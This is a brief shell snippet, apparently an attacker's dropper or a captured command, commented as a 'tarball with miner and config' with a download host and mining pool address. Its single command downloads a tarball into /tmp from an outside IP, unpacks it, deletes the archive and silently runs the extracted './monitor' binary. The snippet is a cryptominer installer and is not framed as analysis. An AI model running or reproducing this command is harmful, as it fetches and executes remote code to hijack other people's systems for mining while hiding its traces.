# tarball with miner and config
#http 203.0.113.54:8005
#pool 198.51.100.61:8443:drop
cd /tmp; wget -q http://203.0.113.54:8005/bundle.tar.gz; tar xzf bundle.tar.gz; rm bundle.tar.gz; timeout 12 ./monitor >/dev/null
